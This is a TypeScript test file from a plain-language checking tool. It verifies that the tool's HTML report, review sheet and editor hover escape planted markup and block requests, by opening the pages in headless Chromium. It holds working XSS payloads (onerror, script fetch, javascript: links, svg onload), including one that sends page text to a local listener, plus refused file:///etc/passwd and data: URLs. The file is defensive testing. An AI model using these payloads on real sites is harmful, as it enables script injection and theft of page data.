/**
 * Round 3, the HTML outputs and the hover: a checked file, a dictionary or a configuration
 * written to run script in whoever opens the HTML report or the review sheet, or to put a remote
 * image in an editor's hover. Each page is opened in Chromium from its file, as a person opens
 * it, with a listener on 127.0.0.1 that every payload aims at: the listener must get no request,
 * no planted script may run, and the planted text must still be shown, as text.
 */
import {createServer, type Server} from 'node:http'
import type {AddressInfo} from 'node:net'
import {readFile, writeFile} from 'node:fs/promises'
import {createRequire} from 'node:module'
import path from 'node:path'
import {pathToFileURL} from 'node:url'
import {chromium, type Browser, type Page} from 'playwright-core'
import remarkParse from 'remark-parse'
import {unified} from 'unified'
import {afterAll, afterEach, beforeAll, describe, expect, it, vi} from 'vitest'
import {expectContained, paper, project, repoRoot, runCli, secret, type Project} from './helpers.js'
// @ts-expect-error: plain JavaScript shared with the benchmark.
import {fileUri, LspClient} from './lsp.js'

vi.setConfig({testTimeout: 180_000, hookTimeout: 120_000})

const cliRequire = createRequire(path.join(repoRoot, 'packages/cli/package.json'))

/** Requests that reached the listener on 127.0.0.1, which every payload aims at. */
let hits: string[] = []
let server: Server
let port = 0
let browser: Browser
let made: Project | undefined

beforeAll(async () => {
  server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`)
    response.end('')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  port = (server.address() as AddressInfo).port
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic']
  })
})

afterAll(async () => {
  await browser?.close()
  await new Promise((resolve) => server?.close(resolve))
})

afterEach(async () => {
  await made?.cleanup()
  made = undefined
  hits = []
})

/** Markup that, put into a page unescaped, runs script, fetches or navigates to the listener. */
function payloads(): string[] {
  const to = (where: string) => `http://127.0.0.1:${port}/${where}`
  return [
    `<img src=x onerror="ran=1;location='${to('exfil')}?'+encodeURIComponent(document.body.innerText)">`,
    `<script>ran=2;fetch('${to('script')}')</script>`,
    `<img src="${to('img')}">`,
    `<a id=go href="javascript:ran=3;location='${to('js')}'">open</a>`,
    `<meta http-equiv="refresh" content="0;url=${to('refresh')}">`,
    `<iframe src="${to('frame')}"></iframe>`,
    `'><form action="${to('form')}"><button id=send>send</button></form>`,
    // Last: an unclosed <svg> makes what follows SVG, not HTML.
    `"><svg onload="ran=4;location='${to('svg')}'">`
  ]
}

/**
 * The two halves of the issue's attack: a .docx heading and a paragraph opening, each within the
 * 40 characters a place shows of them, that together make an inline handler sending the page
 * away. On 032aa41 the report opened this way requests the listener with the report's title.
 */
function placePayload(): {heading: string; paragraph: string} {
  const heading = `<img src onerror="location='http://'+/*`
  const paragraph = `*/'127.1:${port}/'+document.title"> We will signpost residents to advice.`
  return {heading, paragraph}
}

async function docxWith(paragraphs: Array<{text: string; heading?: boolean}>): Promise<Uint8Array> {
  const {Document, Packer, Paragraph, HeadingLevel} = cliRequire('docx') as {
    Document: new (options: object) => object
    Packer: {toBuffer(document: object): Promise<Uint8Array>}
    Paragraph: new (options: object) => object
    HeadingLevel: Record<string, string>
  }
  const children = paragraphs.map((paragraph) => new Paragraph({text: paragraph.text, ...(paragraph.heading ? {heading: HeadingLevel['HEADING_1']} : {})}))
  return Packer.toBuffer(new Document({sections: [{children}]}))
}

interface Opened {
  page: Page
  /** Requests the page made for anything but its own file. */
  outside: string[]
  /** Content-Security-Policy violations the page reported. */
  violations: string[]
}

/** Opens an HTML file as a person would (from disk), and records every request it makes. */
async function openPage(file: string): Promise<Opened> {
  const context = await browser.newContext()
  const url = pathToFileURL(file).href
  const outside: string[] = []
  await context.route('**/*', (route) => {
    const requested = route.request().url()
    if (requested === url || requested.startsWith('blob:')) return route.continue()
    outside.push(requested)
    // Anything aimed at the listener goes through to it, so a request that escapes is seen there too.
    return /^https?:\/\/127\./.test(requested) ? route.continue() : route.abort()
  })
  const page = await context.newPage()
  const violations: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text())
  })
  await page.goto(url)
  await page.waitForLoadState('load')
  return {page, outside, violations}
}

/** Clicks everything a reader might: every finding, mark, reference and in-page link, then waits for any late navigation. */
async function clickAround(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const element of document.querySelectorAll<HTMLElement>('summary, mark, a[href^="#"], button, #go, #send')) element.click()
  })
  await page.waitForTimeout(1500)
}

/** Nothing reached the listener, no planted script ran, the page stayed where it was opened. */
async function expectInert(opened: Opened, file: string): Promise<void> {
  const {page, outside} = opened
  expect(hits).toEqual([])
  expect(outside.filter((url) => /127\.|localhost/.test(url))).toEqual([])
  expect(page.url().replace(/#[\w-]*$/, '')).toBe(pathToFileURL(file).href)
  expect(await page.evaluate(() => (window as unknown as {ran?: number}).ran)).toBeUndefined()
  expect(await page.locator('iframe, script:not([id]):not(:last-of-type), img, meta[http-equiv="refresh"], form[action], svg[onload], [onerror], [onload]').count()).toBe(0)
}

/** The policy in a page, as the browser reads it. */
function policyOf(page: string): string {
  const content = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(page)?.[1] ?? ''
  return content.replaceAll('&#39;', "'")
}

function expectStrictPolicy(policy: string): void {
  expect(policy).toMatch(/^default-src 'none'; /)
  expect(policy).toMatch(/script-src 'sha256-[\w+/]+='(?:;|$)/)
  expect(policy).toMatch(/style-src 'sha256-[\w+/]+='(?:;|$)/)
  for (const directive of ["connect-src 'none'", "form-action 'none'", "base-uri 'none'", "img-src 'none'"]) expect(policy).toContain(directive)
  expect(policy).not.toMatch(/unsafe|data:|\*/)
}

describe('the HTML report', () => {
  it('prints a .docx finding’s place (heading and paragraph opening) as text: the two 40-character halves run nothing', async () => {
    const {heading, paragraph} = placePayload()
    made = await project({'paper.docx': await docxWith([{text: heading, heading: true}, {text: paragraph}, {text: 'The JSNA was agreed in May.'}])})
    const run = await runCli(['check', '--format', 'html', '--output', 'report.html', 'paper.docx'], {cwd: made.dir})
    expect(run.stderr).toBe('')
    const report = await readFile(path.join(made.dir, 'report.html'), 'utf8')
    expectContained(run, report)
    expect(run.code).toBe(0)
    expect(report).not.toContain('<img src onerror')
    expect(heading.length).toBeLessThanOrEqual(40)
    expect(report).toContain('&lt;img src onerror=&quot;location=')
    const opened = await openPage(path.join(made.dir, 'report.html'))
    await clickAround(opened.page)
    await expectInert(opened, path.join(made.dir, 'report.html'))
    // Shown as the writer typed it: nothing lost.
    expect(await opened.page.locator('.where').first().textContent()).toContain(`Under “${heading}`)
    await opened.page.context().close()
  })

  it('escapes file names, text, dictionary notes, alternatives, meanings and source titles, and links only to an https docsUrl', async () => {
    const [exfil, script, image, link, refresh, frame, form, svg] = payloads() as [string, string, string, string, string, string, string, string]
    const noBrackets = `<img src=x onerror=ran=6;location='http:&#47;&#47;127.0.0.1:${port}&#47;alternative'>`
    const quoted = (text: string) => JSON.stringify(text)
    made = await project({
      '.plainspeakrc.yml': `dictionaries: [words]\ndocsUrl: ${quoted(`https://intranet.example.gov.uk/rules/{rule}?q="><img/src=http://127.0.0.1:${port}/docs>`)}\n`,
      'words/sources.yml': `ours:\n  title: ${quoted(`Our list ${image}`)}\n  url: https://example.org/list\n  licence: ours\n`,
      'words/local.yml': [
        `- term: zorbify`,
        `  alternatives: [${quoted(noBrackets)}]`,
        `  kind: jargon`,
        `  note: ${quoted(`Say what you mean. ${exfil}`)}`,
        `  source: ours`,
        `- acronym: ZQXW`,
        `  expansion: ${quoted(`Zone ${script} Quality`)}`,
        `  domain: council`,
        `  source: ours`,
        ''
      ].join('\n'),
      [`${svg.replaceAll('/', '&#47;')}.md`]: `# ${frame}\n\nWe will zorbify the ZQXW. ${link} ${refresh} ${form}\n`
    })
    const run = await runCli(['check', '--format', 'html', '--output', 'report.html', '.'], {cwd: made.dir})
    expect(run.stderr).toBe('')
    const report = await readFile(path.join(made.dir, 'report.html'), 'utf8')
    expectContained(run, report)
    expect(run.code).toBe(0)
    expectStrictPolicy(policyOf(report))
    const opened = await openPage(path.join(made.dir, 'report.html'))
    await clickAround(opened.page)
    await expectInert(opened, path.join(made.dir, 'report.html'))
    const shown = (await opened.page.locator('body').textContent()) ?? ''
    for (const planted of [frame, link, noBrackets, 'Say what you mean. <img src=x onerror=', `Zone ${script} Quality`]) expect(shown).toContain(planted)
    // Every link is within the page or to the organisation's docs, its query percent-encoded.
    const hrefs = await opened.page.locator('a[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href')!))
    expect(hrefs.filter((href) => !href.startsWith('#'))).not.toEqual([])
    for (const href of hrefs) expect(href).toMatch(/^#[\w-]+$|^https:\/\/intranet\.example\.gov\.uk\/rules\/[\w-]+\?q=%22%3E%3Cimg\/src=http:\/\/127\.0\.0\.1:\d+\/docs%3E$/)
    await opened.page.context().close()
  })

  it('runs no script but its own even if markup got in: its policy blocks inline handlers, scripts, javascript: links, images and requests', async () => {
    made = await project({'paper.md': paper})
    const run = await runCli(['check', '--format', 'html', '--output', 'report.html', 'paper.md'], {cwd: made.dir})
    expectContained(run)
    const report = await readFile(path.join(made.dir, 'report.html'), 'utf8')
    // As if an escaping bug let every payload through, right at the top of the body. Not the
    // `<meta http-equiv=refresh>`: Chromium lets no policy stop a fixed-address redirect, which
    // carries no data without script; escaping keeps it out (the tests above).
    const broken = report.replace('<body>', `<body>${payloads().filter((payload) => !payload.includes('refresh')).join('\n')}`)
    await writeFile(path.join(made.dir, 'broken.html'), broken)
    const opened = await openPage(path.join(made.dir, 'broken.html'))
    await opened.page.evaluate(() => document.getElementById('go')?.click())
    await opened.page.evaluate(() => document.getElementById('send')?.click())
    await opened.page.waitForTimeout(1500)
    expect(hits).toEqual([])
    expect(opened.outside.filter((url) => /127\./.test(url))).toEqual([])
    expect(await opened.page.evaluate(() => (window as unknown as {ran?: number}).ran)).toBeUndefined()
    expect(opened.violations.length).toBeGreaterThan(0)
    // The page's own script still runs: opening all findings works.
    await opened.page.evaluate(() => document.querySelector<HTMLElement>('[data-toggle-all="open"]')!.click())
    expect(await opened.page.locator('ol.findings details[open]').count()).toBeGreaterThan(0)
    await opened.page.context().close()
  })

  it('refuses a docsUrl that is not an https address, saying where it is', async () => {
    for (const docsUrl of [`javascript:fetch('http://127.0.0.1:${port}/')`, `http://127.0.0.1:${port}/rules`, 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd']) {
      made = await project({'.plainspeakrc.yml': `docsUrl: ${JSON.stringify(docsUrl)}\n`, 'paper.md': paper})
      const run = await runCli(['check', '--format', 'html', 'paper.md'], {cwd: made.dir})
      expectContained(run)
      expect(run.code).toBe(2)
      expect(run.stdout).toBe('')
      expect(run.stderr).toContain('.plainspeakrc.yml:1:10: Unexpected value')
      expect(run.stderr).toContain('starting with https://')
      await made.cleanup()
      made = undefined
    }
  })
})

describe('the review sheet', () => {
  it('escapes the title, panel, asked words and the draft’s text; runs nothing; and its entity decoder neither throws nor shows code', async () => {
    const [exfil, script, image] = payloads() as [string, string, string]
    const entityPayload = exfil.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
    made = await project({
      'draft.html': `<h1>Help at home</h1>\n<p>Staff will signpost residents &#x110000; &constructor; &#0; &#xD800; &#99999999999999999999; &__proto__; to services ${entityPayload}.</p>\n<p>The JSNA was agreed in May.</p>\n`
    })
    const run = await runCli(['review', 'draft.html', '--output', 'sheet.html', '--title', `Title ${script}`, '--panel', `Panel ${image}`, '--ask', `Ask ${exfil}`], {cwd: made.dir})
    const sheet = await readFile(path.join(made.dir, 'sheet.html'), 'utf8')
    expectContained(run, sheet)
    expect(run.code, run.stderr).toBe(0)
    expectStrictPolicy(policyOf(sheet))
    expect(sheet).not.toMatch(/native code|function Object|\[object/)
    const opened = await openPage(path.join(made.dir, 'sheet.html'))
    await clickAround(opened.page)
    await opened.page.keyboard.press('Enter')
    await expectInert(opened, path.join(made.dir, 'sheet.html'))
    const shown = await opened.page.locator('body').innerText()
    expect(shown).toContain(`This sheet is about: Title ${script}`)
    expect(shown).toContain('&constructor;')
    expect(shown).toContain('\uFFFD')
    expect(shown).toContain(exfil.slice(0, 30))
    await opened.page.context().close()
  })
})

describe('a dictionary source url', () => {
  const sources = (url: string) => `ours:\n  title: Our list\n  url: ${JSON.stringify(url)}\n  licence: ours\n`
  const terms = '- term: zorbify\n  alternatives: [use]\n  kind: jargon\n  note: Say what you mean.\n  source: ours\n'

  it('dict lint refuses javascript:, data:, http: and file: addresses, and one with a password, naming the file, line and source', async () => {
    const cases: Array<[string, RegExp]> = [
      [`javascript:fetch('http://127.0.0.1:${port}')`, /starts with javascript: where only https: is allowed/],
      ['data:image/png;base64,AAAA', /starts with data: where only https: is allowed/],
      [`http://127.0.0.1:${port}/pixel.png`, /starts with http: where only https: is allowed/],
      ['file:///etc/passwd', /starts with file: where only https: is allowed/],
      ['https://user:secret@example.org/', /has a user name or password in it/]
    ]
    for (const [url, problem] of cases) {
      made = await project({'words/sources.yml': sources(url), 'words/local.yml': terms})
      const run = await runCli(['dict', 'lint', 'words'], {cwd: made.dir})
      expectContained(run)
      expect(run.code, url).toBe(1)
      expect(run.stdout + run.stderr).toMatch(new RegExp(`words/sources\\.yml:3:\\d+: error: Source "ours" has a url that ${problem.source}`))
      await made.cleanup()
      made = undefined
    }
  })

  it('shows in a hover as one https link, never an image, and a refused address as no link at all', async () => {
    const tricky = `https://example.org/a)![x](http://127.0.0.1:${port}/pixel.png)<img/src=http://127.0.0.1:${port}/img>`
    made = await project({
      '.plainspeakrc.yml': 'dictionaries: [words, plain]\n',
      'words/sources.yml': sources(tricky),
      'words/local.yml': terms,
      'plain/sources.yml': sources(`http://127.0.0.1:${port}/pixel.png`).replace('ours:', 'plain:').replace('Our list', 'Plain list'),
      'plain/local.yml': terms.replace('zorbify', 'blorbify').replace('source: ours', 'source: plain'),
      'paper.md': '# Plan\n\nWe will zorbify the hub and blorbify the team.\n'
    })
    const client = await LspClient.start({workspaceFolders: [made.dir], env: {PLAINSPEAK_TEST_SECRET: secret}})
    try {
      const file = path.join(made.dir, 'paper.md')
      const text = await readFile(file, 'utf8')
      const {diagnostics} = (await client.open(file, text)) as {diagnostics: Array<{code?: string; message: string}>}
      expect(diagnostics.map((diagnostic) => diagnostic.message).join('\n')).toMatch(/zorbify[\s\S]*blorbify|blorbify[\s\S]*zorbify/)
      const hover = async (word: string) => {
        const offset = text.indexOf(word) + 2
        const result = (await client.connection.sendRequest('textDocument/hover', {textDocument: {uri: fileUri(file)}, position: {line: 2, character: offset - text.indexOf('We will')}})) as {contents: {value: string}} | null
        return result?.contents.value ?? ''
      }
      const nodes = (markdown: string) => {
        const found: Array<{type: string; url?: string}> = []
        const walk = (node: {type: string; url?: string; children?: unknown[]}) => {
          found.push(node)
          for (const child of node.children ?? []) walk(child as {type: string})
        }
        walk(unified().use(remarkParse).parse(markdown) as unknown as {type: string; children: unknown[]})
        return found
      }
      const zorbify = await hover('zorbify')
      expect(zorbify).toContain('Our list')
      const parsed = nodes(zorbify)
      expect(parsed.filter((node) => node.type === 'image' || node.type === 'html')).toEqual([])
      const links = parsed.filter((node) => node.type === 'link')
      expect(links).toHaveLength(1)
      expect(links[0]!.url).toMatch(/^https:\/\/example\.org\/a%29%21%5Bx%5D%28http:\/\/127\.0\.0\.1:\d+\/pixel\.png%29%3Cimg\/src=http:\/\/127\.0\.0\.1:\d+\/img%3E$/)
      const blorbify = await hover('blorbify')
      expect(blorbify).toContain('Plain list')
      expect(nodes(blorbify).filter((node) => ['image', 'html', 'link'].includes(node.type))).toEqual([])
      expect(client.everything()).not.toContain(secret)
      expect(hits).toEqual([])
    } finally {
      await client.stop()
    }
  })
})
